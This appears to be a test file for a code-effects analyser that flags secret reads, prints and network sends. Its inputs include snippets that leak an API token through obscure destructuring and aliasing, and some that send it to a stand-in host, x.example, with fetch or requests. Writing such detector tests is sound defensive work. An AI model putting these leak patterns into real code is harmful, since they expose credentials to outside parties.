import { describe, expect, test } from 'vitest'
import { codeEffects } from '../testing/code-effects.ts'

const SECRET = ['read-secret print variable API_TOKEN']
const WHOLE = ['read-secret print environment']

describe('what patterns take out of the environment', () => {
  test.each<readonly [code: string, effects: readonly string[]]>([
    ['const { env: { API_TOKEN } } = process; console.log(API_TOKEN)', SECRET],
    ['const { env: { API_TOKEN: t } } = process; console.log(t)', SECRET],
    ['const { env: { API_TOKEN: t = "x" } } = process; console.log(t)', SECRET],
    ['const { env: { "API_TOKEN": t } } = process; console.log(t)', SECRET],
    ['const { ["env"]: { ["API_" + "TOKEN"]: t } } = process; console.log(t)', SECRET],
    ['let t; ({ env: { API_TOKEN: t } } = process); console.log(t)', SECRET],
    ['const p = process; const { env: e } = p; const { API_TOKEN } = e; console.log(API_TOKEN)', SECRET],
    ['const { process: { env: { API_TOKEN } } } = globalThis; console.log(API_TOKEN)', SECRET],
    ['const { env: { API_TOKEN } } = require("node:process"); console.log(API_TOKEN)', SECRET],
    ['const { env: { API_TOKEN } } = await import("process"); console.log(API_TOKEN)', SECRET],
    ['const { env } = Deno; const { API_TOKEN } = env.toObject(); console.log(API_TOKEN)', SECRET],
    ['(({ env: { API_TOKEN } }) => console.log(API_TOKEN))(process)', SECRET],
    ['function f({ env }) { console.log(env.API_TOKEN) } f(process)', SECRET],
    ['const f = (p = process) => console.log(p.env.API_TOKEN); f()', SECRET],
    ['[process].map(({ env: { API_TOKEN } }) => console.log(API_TOKEN))', SECRET],
    ['for (const { env: { API_TOKEN } } of [process]) console.log(API_TOKEN)', SECRET],
    ['const { env: { PORT, ...rest } } = process; console.log(rest)', WHOLE],
    ['const { ...all } = process.env; console.log(all)', WHOLE],
    ['const { env: { [name]: value } } = process; console.log(value)', WHOLE],
    ['const e = { ...process.env }; console.log(e)', WHOLE],
    ['console.log(process)', WHOLE],
    ['const t = process.env.API_TOKEN; t', SECRET],
  ])('%s', (code, effects) => expect(codeEffects('javascript', code)).toEqual(expect.arrayContaining([...effects])))
})

describe('what is no secret, or is not shown', () => {
  test.each([
    'const { env: { PORT: p = 3000 } } = process; console.log(p)',
    'const { env: { API_TOKEN } } = process; console.log(API_TOKEN ? "set" : "unset")',
    'const { env: { PORT, ...rest } } = process; console.log(Object.keys(rest))',
    'const { argv: [, , name], versions: { node } } = process; console.log(name, node)',
    'function f({ env, mode }) { console.log(env, mode) } f({ env: "x", mode: "y" })',
    'const env = { ...process.env, A: "1" }; require("child_process").spawnSync("npm", ["test"], { env })',
    'console.log(process.version, typeof process)',
  ])('%s', (code) => {
    for (const one of codeEffects('javascript', code)) expect(one).not.toMatch(/^read-secret/)
  })
})

test('by more names than are followed it may be printed by any of them', () => {
  const names = Array.from({ length: 80 }, (_, i) => `const { ...e${i} } = process.env;`).join('')
  expect(codeEffects('javascript', names)).toEqual(WHOLE)
  const chain = Array.from({ length: 20 }, (_, i) => `const p${i + 1} = p${i};`).join('')
  expect(codeEffects('javascript', `const p0 = process;${chain} p20.env`)).toEqual(WHOLE)
})

describe('a secret that is sent', () => {
  const SENT = 'disclose send url'
  const sends = (language: 'python' | 'javascript', code: string) =>
    codeEffects(language, code).some((one) => one.startsWith(SENT))
  test.each<readonly ['python' | 'javascript', string]>([
    ['javascript', 'fetch("https://x.example/?k=" + process.env.API_TOKEN)'],
    ['javascript', 'const { env: { API_TOKEN: k } } = process; fetch(`https://x.example/${k}`)'],
    ['javascript', 'require("https").get("https://x.example/?" + process.env.API_TOKEN)'],
    [
      'javascript',
      'fetch("https://x.example", { method: "POST", body: JSON.stringify({ k: process.env.API_TOKEN }) })',
    ],
    ['python', 'import os, requests; requests.get("https://x.example", params={"k": os.environ["API_TOKEN"]})'],
  ])('%s: %s', (language, code) => expect(sends(language, code)).toBe(true))
  test.each<readonly ['python' | 'javascript', string]>([
    ['javascript', 'fetch("http://localhost:3000/?k=" + process.env.API_TOKEN)'],
    ['javascript', 'fetch("https://x.example", { headers: { authorization: process.env.API_TOKEN }, method: "GET" })'],
    ['javascript', 'fetch("https://x.example/?h=" + sign(process.env.API_TOKEN))'],
    ['python', 'import os, requests; requests.get("https://x.example", auth=("me", os.environ["API_TOKEN"]))'],
  ])('%s, not: %s', (language, code) => expect(sends(language, code)).toBe(false))
})

describe('functions of a module by patterns', () => {
  test.each([
    'const fs = require("fs"); const { unlinkSync: u } = fs; u("a")',
    'const { ["unlinkSync"]: u } = require("fs"); u("a")',
    'const { fs: { unlinkSync: u } } = { fs: require("fs") }; u("a")',
    'function f({ unlinkSync: u }) { u("a") } f(require("fs"))',
  ])('%s', (code) => expect(codeEffects('javascript', code)).toContain('file delete a'))
  test('a read', () =>
    expect(codeEffects('javascript', 'const { readFileSync: r } = require("fs"); r("a")')).toEqual(['file read a']))
})
